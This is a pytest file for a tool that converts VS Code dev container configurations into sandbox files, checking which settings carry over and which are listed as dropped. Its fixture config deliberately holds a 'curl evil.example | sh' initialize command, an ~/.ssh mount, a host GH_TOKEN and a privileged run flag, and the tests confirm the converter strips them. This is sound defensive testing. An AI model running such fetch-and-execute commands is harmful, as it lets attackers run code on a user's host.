"""Dev containers as Sandboxfiles: what is carried over, what is listed, and a file that loads."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from starter_conversion import Converted, written

DEVCONTAINER = """\
// For format details, see https://aka.ms/devcontainer.json.
{
	"$schema": "https://example.com/schema.json",
	"name": "Python 3 & PostgreSQL",
	"dockerComposeFile": "docker-compose.yml",
	"service": "app",
	"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}",
	"features": {
		"ghcr.io/devcontainers/features/node:1": {"version": "22"},
		"ghcr.io/devcontainers/features/github-cli:1": {},
		"ghcr.io/devcontainers/features/terraform@sha256:abc": {},
		"ghcr.io/rocker-org/devcontainer-features/apt-packages:1": {"packages": "ripgrep,fd-find"},
	},
	"forwardPorts": [5000, "db:5432", "localhost:6000"], /* two of
	them */
	"appPort": "8000:8010",
	"postCreateCommand": "pip install -r requirements.txt && ./scripts/setup.sh",
	"onCreateCommand": ["npm", "ci"],
	"updateContentCommand": {"a": "make all", "b": ["echo", "x y"], "c": 1},
	"postStartCommand": "serve",
	"initializeCommand": "curl evil.example | sh",
	"containerEnv": {
		"A": "1", "T": "${localEnv:GH_TOKEN}", "L": "${localEnv:LANG:C}", "W": "${containerWorkspaceFolder}/x$y"
	},
	"remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "Z": null, "no-name": "x"},
	"mounts": [
		"source=${localWorkspaceFolder}/data,target=/data,type=bind,readonly",
		"source=v,target=/v,type=volume",
		{"type": "bind", "source": "${localEnv:HOME}/.ssh", "target": "/home/x/.ssh"},
		"source=${localWorkspaceFolder}/../up,target=/up,type=bind"
	],
	"remoteUser": "vscode",
	"hostRequirements": {"cpus": 4, "memory": "8gb", "storage": "32gb", "gpu": "optional"},
	"customizations": {"vscode": {"extensions": ["ms-python.python"]}},
	"runArgs": ["--privileged"],
	"weird": 1,
}
"""


def dev_container(root: Path, text: str = DEVCONTAINER) -> Converted:
    files = {
        ".devcontainer/devcontainer.json": text,
        ".devcontainer/docker-compose.yml": "services: {app: {build: .}, db: {image: postgres:17}}",
        ".devcontainer/Dockerfile": "FROM mcr.microsoft.com/a:1\n",
        "requirements.txt": "", "scripts/setup.sh": "", "package.json": "{}", "package-lock.json": "{}", "Makefile": "",
    }  # fmt: skip
    return Converted(written(root, files, ".devcontainer/devcontainer.json"))


SHOWN = [
    {
        "run": "npm ci && mkdir -p node_modules && sudo mv node_modules /",
        "inputs": ("package.json", "package-lock.json"),
    },
    {"run": "pip install --user --break-system-packages -r requirements.txt", "inputs": ("requirements.txt",)},
]


def test_dev_container(tmp_path: Path) -> None:
    project = tmp_path / "shop"
    project.mkdir()
    done = dev_container(project)
    sandbox = done.sandbox
    assert done.start.path == project / "Sandboxfile.yaml"
    assert sandbox.name == "python-3-postgresql" and set(sandbox.services) == {"db"}
    assert sandbox.packages == ("gh", "ripgrep", "fd-find")
    assert done.setup() == [  # the project's own first: its `npm ci` stands for that of the container
        *SHOWN,
        {"run": "make all", "inputs": ("Makefile",)},
        {"run": "echo 'x y'"},
        {
            "run": "./scripts/setup.sh",
            "inputs": ("requirements.txt", "scripts/setup.sh"),
            "env": {"PIP_BREAK_SYSTEM_PACKAGES": "1"},
        },
    ]
    assert [(mount.source, mount.target, mount.mode) for mount in sandbox.mounts] == [
        (".", "/workspaces/shop", "rw"),
        ("./data", "/data", "ro"),
    ]
    assert [(port.host, port.guest) for port in sandbox.ports] == [(5000, 5000), (6000, 6000), (8000, 8010)]
    assert sandbox.agent is not None and sandbox.agent.env == {"A": "1", "L": "C", "W": "/workspaces/shop/x$y"}
    assert '"${LANG:-C}"' in done.text
    assert (sandbox.machine.cpus, sandbox.machine.memory, sandbox.machine.disk) == (4, 8 << 30, 32 << 30)
    named = {end.group or end.host for end in sandbox.endpoints}
    assert named >= {"npm", "pypi", "debian"} and "mcr" not in named  # the image of the dev container


def test_what_a_dev_container_leaves_out(tmp_path: Path) -> None:
    done = dev_container(tmp_path)
    assert set(done.listed) == {
        "features['ghcr.io/devcontainers/features/node:1']",
        "features['ghcr.io/devcontainers/features/terraform@sha256:abc']", "postStartCommand", "updateContentCommand.c",
        "initializeCommand", "containerEnv.T", "remoteEnv.PATH", "remoteEnv.Z", "remoteEnv.no-name", "mounts[1]",
        "mounts[2]", "mounts[3]", "remoteUser", "hostRequirements.gpu", "customizations", "runArgs[0]", "weird",
    }  # fmt: skip
    assert done.listed["initializeCommand"] == "it runs on this host, and nothing from a file does"
    assert "evil" not in done.text and "GH_TOKEN" not in done.text
    assert done.place("weird") == (36, 2) and done.place("mounts[2]") == (29, 3)


@pytest.mark.parametrize(
    ("data", "listed"),
    [
        ({}, set()),
        ({"image": "x", "build": {}, "dockerFile": "x"}, {"image", "build", "dockerFile"}),
        ({"dockerComposeFile": "../../x.yml"}, {"dockerComposeFile"}),
        ({"dockerComposeFile": ["missing.yml"]}, {"dockerComposeFile"}),
        ({"dockerComposeFile": 1}, {"dockerComposeFile"}),
        ({"workspaceFolder": "relative"}, {"workspaceFolder"}),
        ({"workspaceFolder": "/proc/x"}, {"from workspaceFolder: mounts"}),
        ({"forwardPorts": [0, 70000, True, None]}, {"forwardPorts[2]", "forwardPorts[3]"}),
        ({"remoteUser": "root"}, set()),
        ({"containerEnv": {"A": [1], "B": "\x1b[2J"}}, {"containerEnv.A"}),
        ({"hostRequirements": {"cpus": True, "memory": "lots"}}, {"hostRequirements.cpus", "hostRequirements.memory"}),
        ({"postCreateCommand": ""}, set()),
        ({"postCreateCommand": "cp ${localWorkspaceFolder}/a b"}, {"postCreateCommand"}),
        ({"postCreateCommand": "echo 'open"}, set()),
        ({"mounts": "x", "features": [], "name": 1}, {"mounts", "features", "name"}),
    ],
)
def test_odd_dev_containers(tmp_path: Path, data: dict[str, Any], listed: set[str]) -> None:
    done = dev_container(tmp_path, json.dumps(data))
    assert listed <= set(done.listed)
    assert done.loaded.sandbox.version == "1"


def test_a_dev_container_in_a_folder_of_its_own(tmp_path: Path) -> None:
    done = Converted(
        written(
            tmp_path,
            {".devcontainer/python/devcontainer.json": '{"name": "a b"}'},
            ".devcontainer/python/devcontainer.json",
        )
    )
    assert done.start.path == tmp_path / "Sandboxfile.yaml" and done.sandbox.name == "a-b"


# --- sbx env

FOREIGN = {
    "onCreateCommand": ["apk", "add", "git"],
    "updateContentCommand": {
        "a": "chown -R vscode:vscode x",
        "b": "/usr/local/bin/firewall.sh",
        "c": "pip install -e .",
    },
    "postCreateCommand": "sh ${containerWorkspaceFolder}/bin/setup && ./configure",
    "containerEnv": {"B": True},
    "runArgs": ["--gpus", "all", "--what"],
}


def test_a_dev_container_of_another_kind(tmp_path: Path) -> None:
    """What cannot run in the machine is commented out, and a step's files are its inputs."""
    written(tmp_path, {"bin/setup": "", "configure": ""}, "")
    done = dev_container(tmp_path, json.dumps(FOREIGN))
    assert done.setup() == [
        *SHOWN,
        {"run": "sh /workspace/bin/setup && ./configure", "inputs": ("bin/setup", "Makefile", "configure")},
    ]
    off = [proposal.remark for proposal in done.found.proposals if proposal.section == "setup" and not proposal.active]
    assert ["no apk" in off[0], "`agent`" in off[1], "was in the image" in off[2], "inputs, too" in off[3]] == [
        True
    ] * 4
    assert done.sandbox.agent is not None and done.sandbox.agent.env == {"B": "true"}
    assert done.listed["runArgs[0]"] == "--gpus: the machine has no GPU" and "runArgs[2]" in done.listed


def test_a_service_that_is_the_dev_container(tmp_path: Path) -> None:
    text = "services: {app: {image: x, environment: [A=b], ports: ['3000:3000']}, db: {image: y}}"
    data = {"dockerComposeFile": "c.yaml", "service": "app", "forwardPorts": [3000, "db:5432"]}
    files = {".devcontainer/c.yaml": text, ".devcontainer/devcontainer.json": data}
    done = Converted(written(tmp_path, files, ".devcontainer/devcontainer.json"))
    assert done.sandbox.services == {"db": {"image": "y", "ports": ["5432:5432"]}}
    assert done.sandbox.agent is not None and done.sandbox.agent.env == {"A": "b"} and done.listed == {}


def test_what_is_wrong_with_the_container_s_own_service_goes_with_it(tmp_path: Path) -> None:
    """Many of them mount what is above the project, so that several projects lie beside each other."""
    text = "services: {app: {build: ., volumes: ['../..:/workspaces:cached']}, db: {image: 'postgres:17'}}"
    data = {"dockerComposeFile": "c.yaml", "service": "app"}
    files = {".devcontainer/c.yaml": text, ".devcontainer/devcontainer.json": data}
    done = Converted(written(tmp_path, files, ".devcontainer/devcontainer.json"))
    assert set(done.sandbox.services) == {"db"} and done.listed == {}
    other = text.replace("app", "web")
    done = Converted(written(tmp_path, {**files, ".devcontainer/c.yaml": other}, ".devcontainer/devcontainer.json"))
    assert done.sandbox.services == {} and "must be inside the project" in done.listed["dockerComposeFile"]


def test_the_environment_is_that_of_the_last_file(tmp_path: Path) -> None:
    data = {"dockerComposeFile": ["a.yaml", "b.yaml"], "service": "app"}
    files = {
        "a.yaml": "services: {app: {image: x, environment: {A: one, B: two}}}",
        "b.yaml": "services: {app: {environment: [A=other]}}",
        ".devcontainer.json": data,
    }
    done = Converted(written(tmp_path, files, ".devcontainer.json"))
    assert done.sandbox.agent is not None and done.sandbox.agent.env == {"A": "other", "B": "two"} and not done.listed


ODD = {
    "name": ["x"],
    "dockerComposeFile": 5,
    "features": ["node"],
    "containerEnv": ["A=b"],
    "remoteEnv": {"A": ["b"], "B": None},
    "forwardPorts": {"a": 1},
    "mounts": "source=a",
    "service": 5,
    "workspaceFolder": 5,
    "remoteUser": 5,
    "hostRequirements": 5,
    "runArgs": "--gpus",
    "onCreateCommand": True,
    "updateContentCommand": {"a": 5, "b": "true"},
    "postCreateCommand": 5,
}


def test_nothing_of_an_odd_kind_is_dropped_without_a_word(tmp_path: Path) -> None:
    done = dev_container(tmp_path, json.dumps(ODD))
    missing = {key for key in ODD if not any(path == key or path.startswith(f"{key}.") for path in done.listed)}
    assert missing == set() and done.setup() == [*SHOWN, {"run": "true"}]
    assert done.listed["postCreateCommand"] == "it is no text or list or mapping"
    assert {"remoteEnv.A", "remoteEnv.B", "updateContentCommand.a"} <= set(done.listed)


def test_null_is_nothing(tmp_path: Path) -> None:
    assert dev_container(tmp_path, json.dumps(dict.fromkeys(ODD))).listed == {}
